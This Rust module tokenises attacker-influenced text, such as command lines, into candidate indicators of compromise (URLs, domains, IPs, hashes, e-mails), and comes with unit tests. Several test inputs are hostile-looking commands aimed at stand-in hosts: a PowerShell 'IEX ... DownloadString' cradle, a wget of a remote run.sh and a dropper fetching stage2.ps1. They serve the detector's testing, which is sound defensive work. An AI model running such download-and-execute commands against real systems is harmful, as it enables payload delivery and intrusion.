//! Free text → candidate IoC tokens.
//!
//! Command lines, execve arguments, request targets, descriptions and the like are
//! scanned for URLs, domains, IP addresses, hex digests and e-mail addresses. The
//! tokenizer only *finds* values: it returns raw slices of the input with a kind
//! hint, and the caller normalises them with [`crate::normalize`] (which may still
//! reject a token).
//!
//! The input is attacker-influenced, so the work is bounded: at most
//! [`Limits::max_scan_bytes`] of the text is looked at and at most
//! [`Limits::max_tokens`] distinct tokens are returned. Nothing here panics or
//! allocates per byte; the only allocation is the output vector.
//!
//! What counts as what:
//!
//! - **URL**: a known scheme (`http`, `https`, `ftp`, ..., and the defanged `hxxp`,
//!   `hxxps`, `fxp`) followed by `://` and a host, up to whitespace, a quote, `<`,
//!   `>`, `\`, `^`, `{`, `}`, `|` or a control character; trailing punctuation and
//!   unbalanced `)`/`]` are dropped. URLs nested in another URL (open redirects) are
//!   reported as well. A host followed by a path without a scheme (`evil.example/x`)
//!   is reported as a URL too; [`Token::has_scheme`] tells the two apart.
//! - **Domain**: two or more labels whose last label (the TLD) is alphabetic and is a
//!   TLD of the public suffix list, or one of the special-use names `test`,
//!   `example`, `invalid`, and the alternative roots `bit` and `i2p` often seen in
//!   malware. Requiring a real TLD keeps `powershell.exe`, `System.Net.WebClient`
//!   and `Zone.Identifier` out. Some real TLDs are much more often file extensions
//!   in command lines (`zip`, `mov`, `sh`, `py`, `pl`, `rs`, `md`, ... see
//!   [`AMBIGUOUS_TLDS`]): a *bare* two-label name with such a TLD (`install.sh`,
//!   `invoice.zip`) is taken as a file name, while `dl.evil.zip` (three labels) and
//!   any such host inside a URL are still domains.
//! - **Path components are not domains**: a word right after a single `\`
//!   (`C:\Temp\setup.zip`) or after a `/` inside a word (`/var/www/evil.com/x`) is
//!   part of a path. A word after `\\` at the start of a UNC path
//!   (`\\evil.example\share`) and after `//` is a host.
//! - **IPv4**: four decimal octets, optionally followed by `:port`; **IPv6**: a word
//!   of hex digits and colons that parses as an address, bare or in brackets
//!   (`[2001:db8::1]:443`), a `%zone` suffix dropped.
//! - **Hashes**: runs of exactly 32, 40, 64 or 128 hex digits between non-word
//!   characters (`_` counts as a word character), hinted as MD5, SHA-1, SHA-256 and
//!   SHA-512 by length. Runs of one repeated digit (`000…0`) are ignored.
//! - **E-mail**: `local@domain` with the domain rules above (no file-name rule).
//!
//! Defanged dots (`evil[.]example`) are only understood inside URLs, where
//! normalisation refangs them.

use crate::kind::Kind;

/// Default cap on the bytes of one text that are scanned.
pub const MAX_SCAN_BYTES: usize = 64 * 1024;
/// Default cap on the tokens returned for one text.
pub const MAX_TOKENS: usize = 64;
/// Longest URL reported; a longer one is cut here (no IoC URL is this long, and
/// the cap bounds the work on hostile input).
const MAX_URL_BYTES: usize = 8 * 1024;
/// URLs found inside another URL's span, per text.
const MAX_NESTED_URLS: usize = 8;

/// Real TLDs that in command lines and paths are almost always file extensions.
/// A bare two-label word with one of these TLDs is not reported as a domain.
pub const AMBIGUOUS_TLDS: &[&str] = &[
    "ac", "am", "app", "cab", "cc", "data", "gs", "in", "la", "mk", "ml", "mov", "md", "new",
    "one", "pid", "pl", "pm", "ps", "py", "rs", "run", "sc", "sh", "so", "st", "tf", "ws", "zip",
];

/// Names outside the public suffix list that are still worth reporting.
const EXTRA_TLDS: &[&str] = &["test", "example", "invalid", "bit", "i2p"];

/// URL schemes recognised in text (compared case-insensitively).
const SCHEMES: &[&str] = &[
    "http", "https", "hxxp", "hxxps", "hxtp", "hxtps", "ftp", "ftps", "fxp", "fxps", "sftp",
    "tftp", "ws", "wss",
];
const MAX_SCHEME_LEN: usize = 5;

/// One value found in a text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Token<'a> {
    /// `Url`, `Domain`, `Ipv4`, `Ipv6`, `Email`, `Md5`, `Sha1`, `Sha256` or `Sha512`.
    pub kind: Kind,
    /// The raw slice of the input (for IPs without port or brackets).
    pub text: &'a str,
}

impl Token<'_> {
    /// For URL tokens: whether the slice starts with a scheme. Scheme-less URLs
    /// (`evil.example/x`, `//evil.example/x`) need one added before normalisation.
    pub fn has_scheme(&self) -> bool {
        self.text.contains("://")
    }
}

/// Work bounds for one text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    pub max_scan_bytes: usize,
    pub max_tokens: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_scan_bytes: MAX_SCAN_BYTES,
            max_tokens: MAX_TOKENS,
        }
    }
}

/// Tokenises `text` with the default [`Limits`].
pub fn tokenize(text: &str) -> Vec<Token<'_>> {
    tokenize_with(text, Limits::default())
}

/// Tokenises `text`: URLs first (in order of appearance), then the other tokens in
/// order of appearance, without duplicates, at most `limits.max_tokens`.
pub fn tokenize_with(text: &str, limits: Limits) -> Vec<Token<'_>> {
    let text = floor_boundary(text, limits.max_scan_bytes);
    let mut out = Out {
        tokens: Vec::new(),
        max: limits.max_tokens,
    };
    if out.max == 0 || text.is_empty() {
        return out.tokens;
    }
    let bytes = text.as_bytes();

    // Pass 1: URLs with a scheme. Their spans are masked from pass 2.
    let mut spans: Vec<(usize, usize)> = Vec::new();
    // URLs nested in another URL cost a rescan of the outer one's tail; a few are
    // worth it (open redirects), an unbounded number is quadratic work.
    let mut nested_left = MAX_NESTED_URLS;
    for pos in scheme_separators(text) {
        if out.full() {
            return out.tokens;
        }
        if spans.last().is_some_and(|&(_, end)| pos < end) {
            if nested_left == 0 {
                continue;
            }
            nested_left -= 1;
        }
        if let Some((start, end)) = url_at(bytes, pos) {
            out.push(Kind::Url, &text[start..end]);
            match spans.last_mut() {
                // A URL nested in the previous one (found later, starts inside it).
                Some(last) if start < last.1 => last.1 = last.1.max(end),
                _ => spans.push((start, end)),
            }
        }
    }

    // Pass 2: words outside the URL spans.
    let mut from = 0;
    for &(start, end) in spans
        .iter()
        .chain(std::iter::once(&(bytes.len(), bytes.len())))
    {
        scan_words(text, from, start, &mut out);
        if out.full() {
            break;
        }
        from = end;
    }
    out.tokens
}

struct Out<'a> {
    tokens: Vec<Token<'a>>,
    max: usize,
}

impl<'a> Out<'a> {
    fn full(&self) -> bool {
        self.tokens.len() >= self.max
    }

    fn push(&mut self, kind: Kind, text: &'a str) {
        if self.full() || text.is_empty() {
            return;
        }
        // Linear: the list is capped at a few dozen entries.
        if self.tokens.iter().any(|t| t.kind == kind && t.text == text) {
            return;
        }
        self.tokens.push(Token { kind, text });
    }
}

/// The longest prefix of `s` of at most `max` bytes that ends on a char boundary.
fn floor_boundary(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// Bytes that end a URL.
fn is_url_stop(b: u8) -> bool {
    b <= b' '
        || b == 0x7f
        || matches!(
            b,
            b'"' | b'\'' | b'`' | b'<' | b'>' | b'\\' | b'^' | b'{' | b'}' | b'|'
        )
}

/// Offsets of every `://` in `text`. A search for `:` (core's word-at-a-time
/// byte search) and a look at the next two bytes: not memchr's memmem, whose
/// first use probes the CPU features with a dozen CPUID instructions, ~70 µs in
/// a VM, paid again by every per-alert process.
fn scheme_separators(text: &str) -> impl Iterator<Item = usize> + '_ {
    let mut from = 0;
    std::iter::from_fn(move || loop {
        let at = from + text.get(from..)?.find(':')?;
        from = at + 1;
        if text.as_bytes().get(at + 1..at + 3) == Some(b"//") {
            return Some(at);
        }
    })
}

/// The URL whose `://` is at `pos`, as a byte span, if it has a known scheme and a host.
fn url_at(bytes: &[u8], pos: usize) -> Option<(usize, usize)> {
    let mut start = pos;
    while start > 0 && bytes[start - 1].is_ascii_alphabetic() {
        if pos - start == MAX_SCHEME_LEN {
            return None; // longer than any known scheme
        }
        start -= 1;
    }
    let scheme = &bytes[start..pos];
    if !SCHEMES
        .iter()
        .any(|s| s.as_bytes().eq_ignore_ascii_case(scheme))
    {
        return None;
    }
    let host_start = pos + 3;
    match bytes.get(host_start) {
        Some(&b) if !is_url_stop(b) && b != b'/' => {}
        _ => return None,
    }
    let limit = bytes.len().min(start + MAX_URL_BYTES);
    let mut end = host_start;
    while end < limit && !is_url_stop(bytes[end]) {
        end += 1;
    }
    // Never cut inside a multi-byte character (the cap may land there).
    while end > host_start && end < bytes.len() && (bytes[end] & 0xc0) == 0x80 {
        end -= 1;
    }
    // Trailing punctuation belongs to the sentence, not the URL.
    while end > host_start {
        let last = bytes[end - 1];
        let unbalanced = |open: u8, close: u8| {
            let span = &bytes[start..end];
            span.iter().filter(|&&b| b == close).count()
                > span.iter().filter(|&&b| b == open).count()
        };
        let drop = match last {
            b'.' | b',' | b';' | b':' | b'!' | b'?' | b'*' => true,
            b')' => unbalanced(b'(', b')'),
            b']' => unbalanced(b'[', b']'),
            _ => false,
        };
        if !drop {
            break;
        }
        end -= 1;
    }
    (end > host_start).then_some((start, end))
}

/// Bytes that may appear in a word (anything else separates words).
fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric()
        || matches!(
            b,
            b'.' | b'-' | b'_' | b':' | b'@' | b'/' | b'[' | b']' | b'%'
        )
}

/// Scans `text[from..to]` word by word.
fn scan_words<'a>(text: &'a str, from: usize, to: usize, out: &mut Out<'a>) {
    let bytes = text.as_bytes();
    let mut i = from;
    while i < to && !out.full() {
        if !is_word_byte(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < to && is_word_byte(bytes[i]) {
            i += 1;
        }
        i = word(text, start, i, to, out).max(i);
    }
}

/// Looks at one word `text[start..end]`; returns where scanning resumes (past the
/// end of a scheme-less URL that extends beyond the word, `to` at most).
fn word<'a>(text: &'a str, start: usize, end: usize, to: usize, out: &mut Out<'a>) -> usize {
    let bytes = text.as_bytes();
    hashes(text, start, end, out);

    // Backslashes before the word: after another word they separate Windows path
    // components (`C:\Temp\x.zip`, or `C:\\Temp\\x.zip` when a log doubled them);
    // two or more at the start of a path introduce a UNC host (`\\evil.example\share`).
    let run = bytes[..start]
        .iter()
        .rev()
        .take(8)
        .take_while(|&&b| b == b'\\')
        .count();
    if run > 0 {
        let before_run = start.checked_sub(run + 1).map(|i| bytes[i]);
        let unc = run >= 2 && before_run.is_none_or(|b| !is_word_byte(b));
        if !unc {
            return end;
        }
    }

    // Trim what cannot start or end a host.
    let mut s = start;
    let mut e = end;
    // (A leading `::` starts an IPv6 address and stays.)
    while s < e
        && (matches!(bytes[s], b'-' | b'.' | b'@' | b'%')
            || (bytes[s] == b':' && bytes.get(s + 1) != Some(&b':')))
    {
        s += 1;
    }
    while e > s && matches!(bytes[e - 1], b'.' | b':' | b'-' | b'@' | b'%') {
        e -= 1;
    }
    if s >= e {
        return end;
    }

    let w = &text[s..e];
    let (host_off, relative) = if w.starts_with("//") {
        (2, true)
    } else if w.starts_with('/') {
        return end; // a Unix path: its components are not hosts
    } else {
        (0, false)
    };
    let rest = &w[host_off..];
    let host_len = rest.find('/').unwrap_or(rest.len());
    let host = &rest[..host_len];
    let path = &rest[host_len..];
    let host_at = s + host_off;

    // e-mail, or WebDAV `host@SSL` (the part after `@` is no domain)
    if let Some(at) = host.rfind('@') {
        let domain_part = &host[at + 1..];
        if path.is_empty() && is_domain(strip_port(domain_part), false) {
            let local_start = host[..at]
                .bytes()
                .rposition(|b| !is_local_part_byte(b))
                .map_or(0, |p| p + 1);
            if local_start < at {
                out.push(Kind::Email, &host[local_start..]);
            }
            return end;
        }
        return host_token(text, host_at, host_at + at, path, relative, end, to, out);
    }
    host_token(
        text,
        host_at,
        host_at + host.len(),
        path,
        relative,
        end,
        to,
        out,
    )
}

/// Classifies the host part `text[hs..he]` of a word (followed by `path`, possibly
/// empty) and reports it.
#[allow(clippy::too_many_arguments)]
fn host_token<'a>(
    text: &'a str,
    hs: usize,
    he: usize,
    path: &str,
    relative: bool,
    word_end: usize,
    to: usize,
    out: &mut Out<'a>,
) -> usize {
    let host = &text[hs..he];
    if host.is_empty() {
        return word_end;
    }
    // A network (`a.b.c.d/24`) is reported as its address, never as a URL.
    let is_cidr =
        path.len() > 1 && path.len() <= 4 && path[1..].bytes().all(|b| b.is_ascii_digit());
    let has_path = path.len() > 1 && !is_cidr;

    // [v6] or [v6]:port
    if let Some(inner) = host.strip_prefix('[') {
        if let Some(close) = inner.find(']') {
            let addr = strip_zone(&inner[..close]);
            let tail = &inner[close + 1..];
            if is_ipv6(addr) && (tail.is_empty() || is_port_suffix(tail)) {
                out.push(Kind::Ipv6, addr);
            }
        }
        return word_end;
    }

    let (addr, port_ok) = match host.split_once(':') {
        Some((a, p)) => (
            a,
            p.bytes().all(|b| b.is_ascii_digit()) && !p.is_empty() && p.len() <= 5,
        ),
        None => (host, true),
    };
    if is_ipv4(addr) && port_ok {
        if has_path {
            return url_token(text, hs, word_end, relative, to, out);
        }
        out.push(Kind::Ipv4, addr);
        return word_end;
    }

    if host.bytes().filter(|&b| b == b':').count() >= 2 {
        let addr = strip_zone(host.trim_end_matches([':', '.']));
        if is_ipv6(addr) {
            out.push(Kind::Ipv6, addr);
        }
        return word_end;
    }

    if port_ok {
        if is_domain(addr, true) {
            if has_path {
                return url_token(text, hs, word_end, relative, to, out);
            }
            out.push(Kind::Domain, addr);
        }
    } else {
        // `name:other` is not host:port (e.g. `file.zip:Zone.Identifier`): each side alone.
        for piece in host.split(':') {
            if is_domain(piece, true) {
                let offset = piece.as_ptr() as usize - text.as_ptr() as usize;
                out.push(Kind::Domain, &text[offset..offset + piece.len()]);
            }
        }
    }
    word_end
}

/// A scheme-less URL starting at `hs` (or at the `//` before it): it extends past
/// the word up to the next URL stop byte.
fn url_token<'a>(
    text: &'a str,
    hs: usize,
    word_end: usize,
    relative: bool,
    to: usize,
    out: &mut Out<'a>,
) -> usize {
    let bytes = text.as_bytes();
    let start = if relative { hs - 2 } else { hs };
    let limit = to.min(start + MAX_URL_BYTES);
    let mut end = word_end.min(limit);
    while end < limit && !is_url_stop(bytes[end]) {
        end += 1;
    }
    while end > word_end && !text.is_char_boundary(end) {
        end -= 1;
    }
    while end > start
        && matches!(
            bytes[end - 1],
            b'.' | b',' | b';' | b':' | b'!' | b'?' | b')' | b']'
        )
    {
        end -= 1;
    }
    if end > start {
        out.push(Kind::Url, &text[start..end]);
    }
    end.max(word_end)
}

/// Runs of 32/40/64/128 hex digits bounded by non-word bytes inside a word.
fn hashes<'a>(text: &'a str, start: usize, end: usize, out: &mut Out<'a>) {
    let bytes = text.as_bytes();
    let mut i = start;
    while i < end {
        if !(bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_') {
            i += 1;
            continue;
        }
        let run = i;
        while i < end && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_') {
            i += 1;
        }
        let w = &bytes[run..i];
        let kind = match w.len() {
            32 => Kind::Md5,
            40 => Kind::Sha1,
            64 => Kind::Sha256,
            128 => Kind::Sha512,
            _ => continue,
        };
        if w.iter().all(u8::is_ascii_hexdigit) && w.iter().any(|&b| b != w[0]) {
            out.push(kind, &text[run..i]);
        }
    }
}

fn is_local_part_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'%' | b'+' | b'-')
}

fn is_port_suffix(s: &str) -> bool {
    s.strip_prefix(':')
        .is_some_and(|p| !p.is_empty() && p.len() <= 5 && p.bytes().all(|b| b.is_ascii_digit()))
}

/// `host:port` → `host` (when the part after the last `:` is a port).
fn strip_port(s: &str) -> &str {
    match s.rsplit_once(':') {
        Some((h, p)) if !p.is_empty() && p.len() <= 5 && p.bytes().all(|b| b.is_ascii_digit()) => h,
        _ => s,
    }
}

fn strip_zone(s: &str) -> &str {
    s.split_once('%').map_or(s, |(a, _)| a)
}

fn is_ipv4(s: &str) -> bool {
    let mut parts = 0;
    for p in s.split('.') {
        parts += 1;
        if parts > 4 || p.is_empty() || p.len() > 3 || !p.bytes().all(|b| b.is_ascii_digit()) {
            return false;
        }
        if p.parse::<u16>().map_or(true, |v| v > 255) {
            return false;
        }
    }
    parts == 4
}

fn is_ipv6(s: &str) -> bool {
    s.len() >= 2
        && s.len() <= 45
        && s.bytes().any(|b| b.is_ascii_hexdigit())
        && s.parse::<std::net::Ipv6Addr>().is_ok()
}

/// Whether `s` looks like a domain name (see the module documentation). `bare`:
/// the name stands alone in text, so the file-extension rule applies.
pub fn is_domain(s: &str, bare: bool) -> bool {
    if s.len() < 4 || s.len() > 253 {
        return false;
    }
    let mut labels = 0usize;
    for label in s.split('.') {
        labels += 1;
        let b = label.as_bytes();
        if b.is_empty()
            || b.len() > 63
            || b[0] == b'-'
            || b[b.len() - 1] == b'-'
            || !b
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_')
        {
            return false;
        }
    }
    if labels < 2 {
        return false;
    }
    let tld = s.rsplit('.').next().unwrap_or("");
    if !is_tld(tld) {
        return false;
    }
    !(bare && labels == 2 && AMBIGUOUS_TLDS.iter().any(|t| t.eq_ignore_ascii_case(tld)))
}

/// A known TLD: in the public suffix list or in [`EXTRA_TLDS`]. Punycode TLDs
/// (`xn--p1ai`) count when the list has them.
fn is_tld(tld: &str) -> bool {
    let b = tld.as_bytes();
    if b.len() < 2 || b.len() > 63 {
        return false;
    }
    let punycode = b.len() > 4 && b[..4].eq_ignore_ascii_case(b"xn--");
    if !punycode && !b.iter().all(u8::is_ascii_alphabetic) {
        return false;
    }
    let mut buf = [0u8; 63];
    let lower = &mut buf[..b.len()];
    lower.copy_from_slice(b);
    lower.make_ascii_lowercase();
    if EXTRA_TLDS.iter().any(|t| t.as_bytes() == &*lower) {
        return true;
    }
    psl::suffix(lower).is_some_and(|s| s.is_known() && s.as_bytes().len() == lower.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(text: &str) -> Vec<(Kind, &str)> {
        tokenize(text)
            .into_iter()
            .map(|t| (t.kind, t.text))
            .collect()
    }

    fn has(text: &str, kind: Kind, value: &str) -> bool {
        toks(text).contains(&(kind, value))
    }

    #[test]
    fn command_line_with_url_and_ip() {
        let t = toks(
            r#""C:\Users\jdoe\AppData\Local\Temp\winsvcupd.exe" -u https://update.badcdn.example.net/a/stage2.ps1 -s 198.51.100.23 -p 8443"#,
        );
        assert_eq!(
            t,
            vec![
                (Kind::Url, "https://update.badcdn.example.net/a/stage2.ps1"),
                (Kind::Ipv4, "198.51.100.23"),
            ]
        );
    }

    #[test]
    fn windows_paths_and_file_names_are_not_domains() {
        for text in [
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            r"powershell.exe -NoP -C Start-Process $env:TEMP\winsvcupd.exe",
            r"C:\Users\jdoe\Downloads\invoice_0423.zip:Zone.Identifier",
            r"rundll32.exe shell32.dll,Control_RunDLL",
            "cmd.exe /c install.sh && python setup.py && unzip invoice.zip",
            "/var/www/html/evil.com/index.php",
            "IEX (New-Object System.Net.WebClient).DownloadString($u)",
            "jquery.min.js README.md main.rs libfoo.so",
            "ZoneId=3 Zone.Identifier",
        ] {
            assert!(
                !toks(text)
                    .iter()
                    .any(|(k, _)| *k == Kind::Domain || *k == Kind::Url),
                "{text}: {:?}",
                toks(text)
            );
        }
    }

    #[test]
    fn domains_in_text() {
        assert!(has(
            "nslookup evil-updates.test",
            Kind::Domain,
            "evil-updates.test"
        ));
        assert!(has(
            "ping -n 1 c2.badcdn.example.net.",
            Kind::Domain,
            "c2.badcdn.example.net"
        ));
        assert!(has("connect dl.evil.zip", Kind::Domain, "dl.evil.zip"));
        assert!(has(
            r"net use \\files.evil.test\share",
            Kind::Domain,
            "files.evil.test"
        ));
        assert!(has(
            r#""\\\\files.evil.test\\share""#,
            Kind::Domain,
            "files.evil.test"
        ));
        assert!(!has(
            r"C:\\Users\\jdoe\\x.evil.test",
            Kind::Domain,
            "x.evil.test"
        ));
        assert!(!has(r"C:\Users\x.evil.test", Kind::Domain, "x.evil.test"));
        assert!(has(
            "--host=Mixed.Case.COM:8443",
            Kind::Domain,
            "Mixed.Case.COM"
        ));
        assert!(!has("value x.y", Kind::Domain, "x.y"));
    }

    #[test]
    fn urls_with_and_without_scheme() {
        assert!(has(
            "wget%20http://dl.evil-updates.test/x/run.sh",
            Kind::Url,
            "http://dl.evil-updates.test/x/run.sh"
        ));
        assert!(has(
            "hxxps://evil[.]test/a",
            Kind::Url,
            "hxxps://evil[.]test/a"
        ));
        assert!(has(
            "see (https://a.example.org/x_(y)).",
            Kind::Url,
            "https://a.example.org/x_(y)"
        ));
        assert!(has(
            "'http://198.51.100.23:8080/dl/agent.bin')",
            Kind::Url,
            "http://198.51.100.23:8080/dl/agent.bin"
        ));
        let t = tokenize("curl evil.example.com/p/x.php?id=1&b=2 -o x");
        assert_eq!(t.len(), 1);
        assert_eq!(t[0].text, "evil.example.com/p/x.php?id=1&b=2");
        assert!(!t[0].has_scheme());
        assert!(has(
            "src=//cdn.evil.test/x.js",
            Kind::Url,
            "//cdn.evil.test/x.js"
        ));
        // Nested (open redirect): both.
        let t = toks("https://r.example.com/?u=http://evil.test/x");
        assert!(t.contains(&(Kind::Url, "https://r.example.com/?u=http://evil.test/x")));
        assert!(t.contains(&(Kind::Url, "http://evil.test/x")));
        // Unknown scheme, no host.
        assert!(toks("abc://x.example.com/ http:///x")
            .iter()
            .all(|(k, _)| *k != Kind::Url));
    }

    #[test]
    fn addresses() {
        assert!(has("to 198.51.100.23:8443,", Kind::Ipv4, "198.51.100.23"));
        assert!(has("[2001:db8::1]:443", Kind::Ipv6, "2001:db8::1"));
        assert!(has(
            "from 2001:db8:bad::10 port",
            Kind::Ipv6,
            "2001:db8:bad::10"
        ));
        assert!(has("fe80::1%eth0", Kind::Ipv6, "fe80::1"));
        assert!(has(
            "::ffff:203.0.113.15;",
            Kind::Ipv6,
            "::ffff:203.0.113.15"
        ));
        assert!(has("net 10.0.0.0/8", Kind::Ipv4, "10.0.0.0"));
        for text in [
            "1.2.3.4.5",
            "v1.2.3.4",
            "256.1.1.1",
            "10:02:11.418",
            "00:1a:2b:3c:4d:5e",
            "std::string",
        ] {
            assert!(
                toks(text).iter().all(|(k, _)| !k.is_ip()),
                "{text}: {:?}",
                toks(text)
            );
        }
    }

    #[test]
    fn hashes_and_emails() {
        let md5 = "840083437f32ccafbf0413706a803b7f";
        assert!(has(&format!("hash={md5},"), Kind::Md5, md5));
        assert!(has(&format!(r"C:\samples\{md5}.bin"), Kind::Md5, md5));
        assert!(!has(&format!("x{md5}"), Kind::Md5, md5));
        assert!(!has(&format!("{md5}_1"), Kind::Md5, md5));
        assert!(toks(&"0".repeat(32)).is_empty());
        assert!(has(
            "mailto:j.doe@contoso.example",
            Kind::Email,
            "j.doe@contoso.example"
        ));
        assert!(!has("user@localhost", Kind::Email, "user@localhost"));
    }

    #[test]
    fn dedupe_and_caps() {
        let t = toks("evil.test evil.test evil.test");
        assert_eq!(t, vec![(Kind::Domain, "evil.test")]);
        let many: String = (0..500).map(|i| format!("h{i}.evil.test ")).collect();
        assert_eq!(tokenize(&many).len(), MAX_TOKENS);
        let lim = Limits {
            max_scan_bytes: 20,
            max_tokens: 10,
        };
        assert_eq!(
            tokenize_with("a.evil.test b.evil.test c.evil.test", lim).len(),
            1
        );
        // A cut inside a multi-byte character stays on a boundary.
        let s = format!("{}é evil.test", "a".repeat(19));
        let _ = tokenize_with(&s, lim);
    }

    #[test]
    fn hostile_text_is_bounded_and_never_panics() {
        let inputs = [
            "http://".repeat(20_000),
            "://".repeat(30_000),
            format!("http://{}", "a".repeat(200_000)),
            "[".repeat(70_000),
            "a.".repeat(40_000),
            "\0http://evil.test/\0x\0".repeat(1000),
            "é".repeat(40_000) + "http://é.test/é",
            ":".repeat(70_000),
            "@".repeat(70_000),
            "\\\\".repeat(40_000),
        ];
        for s in &inputs {
            let t = tokenize(s);
            assert!(t.len() <= MAX_TOKENS);
            for tok in t {
                assert!(!tok.text.contains('\0'));
            }
        }
    }
}
